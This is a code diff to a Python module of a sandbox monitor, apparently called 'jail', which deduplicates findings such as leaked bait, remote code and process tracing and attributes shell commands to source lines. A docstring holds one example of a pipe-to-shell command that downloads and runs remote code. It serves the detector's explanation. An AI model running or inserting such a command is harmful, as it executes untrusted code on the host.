@@ -4,6 +4,7 @@ import re
 from collections.abc import Sequence
 from dataclasses import replace
 
+from jail.report.descent import Descent
 from jail.report.text import plain
 from jail.watch.events import (
     BaitLeaked,
@@ -18,10 +19,10 @@ from jail.watch.events import (
     Seen,
     Severity,
 )
+from jail.watch.noticed import LookedInto, Notice, Noticed
 from jail.watch.world_events import Conversation, Kept, NamesDecoded, RemoteCode, Request
 
 MAX_SUSPICION_CHARS = 400
-MAX_STARTER_CHARS = 300  # of a command line, as the name of a process has them
 RANKS = list(Severity)
 
 # Of these the lines of one file are one act.
@@ -43,12 +44,13 @@ def without_repeats(seen: Sequence[Seen]) -> list[tuple[Phase, tuple[Finding, ..
     """
     better = told_in_full(seen)
     used = fetched_and_used(seen)
-    shells = Shells()
+    descent = Descent(seen)
+    asked = functions_asked_for(seen)
     names = names_of_targets(seen)
     known = baits_read(seen)
     kept: set[tuple[str, Severity]] = set()
     found = []
-    for entry in seen:
+    for number, entry in enumerate(seen):
         findings = entry.findings
         if is_unreadable(entry.event) and id(entry.phase) in known:
             read = known[id(entry.phase)]
@@ -62,8 +64,11 @@ def without_repeats(seen: Sequence[Seen]) -> list[tuple[Phase, tuple[Finding, ..
             worst = used.get(entry.event.url)
             findings = tuple(f for f in findings if not is_said_by(worst, entry.event, f))
         if isinstance(entry.event, Exec):
-            place = shells.place_of(entry.phase, entry.event)
+            place = place_of_command(number, seen, descent)
             findings = tuple(replace(f, place=f.place or place) for f in findings)
+        if isinstance(entry.event, LookedInto):
+            place = asked.get((id(entry.phase), entry.event.call.partition("(")[0]))
+            findings = tuple(replace(f, place=place) for f in findings)
         if isinstance(entry.event, Connection):
             name = names.get((id(entry.phase), entry.event.target))
             findings = tuple(with_name(finding, entry.phase, name) for finding in findings)
@@ -93,26 +98,25 @@ def is_said_by(worst: Severity | None, request: Request, finding: Finding) -> bo
     return RANKS.index(worst) <= RANKS.index(finding.severity)
 
 
-class Shells:
-    """Which line of code has started a command, of commands that a shell was given as words.
+def place_of_command(number: int, seen: Sequence[Seen], descent: Descent) -> str | None:
+    """Which line of code has started a command: its own, or that of the nearest above it.
 
     `sh -c "curl -s http://x | sh"` starts `curl -s http://x` and `sh`: one act of one line.
     """
+    commands = [seen[other].event for other in (number, *descent.above.get(number, []))]
+    places = (event.actor.place for event in commands if isinstance(event, Exec))
+    return next(filter(None, places), None)
 
-    def __init__(self) -> None:
-        self.places: dict[tuple[int, str], str] = {}  # by phase and command line
 
-    def place_of(self, phase: Phase, event: Exec) -> str | None:
-        """The line's place; None where it is not known, or the command is not one of those words.
-
-        To be asked of each command in the order of their starts.
-        """
-        words, above = " ".join(event.argv), event.actor.process
-        is_given = bool(words) and words in above
-        place = event.actor.place or (self.places.get((id(phase), above)) if is_given else None)
-        if place:
-            self.places.setdefault((id(phase), words[:MAX_STARTER_CHARS]), place)
-        return place
+def functions_asked_for(seen: Sequence[Seen]) -> dict[tuple[int, str], str | None]:
+    """By phase and name: where a function of the C library by which processes look into each other
+    was asked for, by ctypes say, before the kernel saw the call itself.
+    """
+    return {
+        (id(entry.phase), entry.event.what): entry.event.place
+        for entry in seen
+        if isinstance(entry.event, Noticed) and entry.event.kind is Notice.TRACES
+    }
 
 
 def baits_read(seen: Sequence[Seen]) -> dict[int, str]:
